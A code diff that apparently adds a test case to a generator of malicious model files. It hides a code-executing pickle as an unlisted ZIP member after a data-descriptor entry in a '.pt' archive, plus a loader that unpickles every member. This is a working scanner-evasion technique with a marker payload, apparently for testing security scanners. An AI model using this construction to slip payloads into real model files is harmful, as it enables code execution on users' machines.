@@ -333,6 +333,42 @@ def zip_fake_eocd(path: Path, marker: Path) -> None:
     path.write_bytes(bytes(data) + benign)
 
 
+LOAD_STREAM_ALL = """import zlib, struct, pickle, sys
+d = open(sys.argv[1], 'rb').read(); pos = 0
+while d[pos:pos + 4] == b'PK\\x03\\x04':  # every local header, as stream-unzip walks them
+    f = struct.unpack_from('<4sHHHHHIIIHH', d, pos); s = pos + 30 + f[9] + f[10]
+    if f[2] & 8:  # sizes after the data: a deflate stream ends by itself, then the descriptor
+        o = zlib.decompressobj(-15); data = o.decompress(d[s:]); end = len(d) - len(o.unused_data)
+        pos = end + (16 if d[end:end + 4] == b'PK\\x07\\x08' else 12)
+    else:
+        raw = d[s:s + f[7]]; data = raw if f[3] == 0 else zlib.decompress(raw, -15); pos = s + f[7]
+    try: pickle.loads(data)
+    except Exception: pass
+"""
+
+
+@technique("zip-hidden-member-after-data-descriptor", "JFrog: local headers the central directory does not "
+           "list, past a member whose sizes follow its data", LOAD_STREAM_ALL, ".pt")
+def zip_after_descriptor(path: Path, marker: Path) -> None:
+    import zlib
+
+    def local(name: bytes, flags: int, method: int, crc: int, size: int, usize: int) -> bytes:
+        return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0, crc, size, usize,
+                           len(name), 0) + name
+
+    benign, evil = _benign(), b"\x80\x02" + system_p0(marker)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(benign) + packer.flush()
+    name = b"archive/data.pkl"
+    first = (local(name, 8, 8, 0, 0, 0) + packed
+             + struct.pack("<4sIII", b"PK\x07\x08", zlib.crc32(benign), len(packed), len(benign)))
+    hidden = local(b"archive/extra.pkl", 0, 0, zlib.crc32(evil), len(evil), len(evil)) + evil
+    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 8, 8, 0, 0, zlib.crc32(benign),
+                          len(packed), len(benign), len(name), 0, 0, 0, 0, 0, 0) + name
+    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(first + hidden), 0)
+    path.write_bytes(first + hidden + central + end)
+
+
 def _legacy(obj_pickle: bytes, keys: list[str]) -> bytes:
     """torch.save(_use_new_zipfile_serialization=False): magic, protocol, sys_info, the object, keys."""
     sys_info = {"protocol_version": 1001, "little_endian": True,
